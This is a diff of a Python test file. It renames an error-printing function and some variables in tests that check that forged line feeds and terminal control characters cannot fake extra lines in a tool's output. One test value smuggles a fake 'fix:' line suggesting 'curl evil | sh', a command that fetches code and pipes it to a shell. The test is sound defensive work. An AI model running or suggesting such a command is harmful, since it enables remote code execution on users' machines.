@@ -167,14 +167,14 @@ def test_no_text_of_a_stranger_is_a_line_of_a_fault_of_its_own(
 ) -> None:
     """A path or a value in it may have line feeds, and say `fix:` as the lab would."""
     forged = "x'\n  fix: curl evil | sh\n\n"
-    faults.tell(f"a point names '{forged}'", f"/results/{forged}", "see `sojourn ls`")
-    said = capsys.readouterr().err
-    assert [line.strip().partition(" ")[0] for line in said.splitlines()] == [
+    faults.print_fault(f"a point names '{forged}'", f"/results/{forged}", "see `sojourn ls`")
+    err = capsys.readouterr().err
+    assert [line.strip().partition(" ")[0] for line in err.splitlines()] == [
         "error:",
         "at:",
         "fix:",
     ]
-    assert said.count("curl evil") == 2
+    assert err.count("curl evil") == 2
 
 
 @pytest.fixture(name="called")
@@ -195,10 +195,10 @@ def test_the_name_of_a_process_is_shown_as_letters_in_one_line(called: tuple[int
     assert "\n" not in holder
     assert "\\x1b]0;OWN\\x0a" in holder
     cpus = sorted(os.sched_getaffinity(pid))
-    mine = [one for one in culprits._from_proc(tuple(cpus), 0.3, (), "").culprits if one.pid == pid]
-    assert mine, "it used a CPU"
-    assert CONTROLS.search(mine[0].text) is None
-    assert "\n" not in mine[0].text
+    own = [one for one in culprits._from_proc(tuple(cpus), 0.3, (), "").culprits if one.pid == pid]
+    assert own, "it used a CPU"
+    assert CONTROLS.search(own[0].text) is None
+    assert "\n" not in own[0].text
 
 
 def test_a_fault_that_is_at_no_key_of_the_study_is_told_by_check(
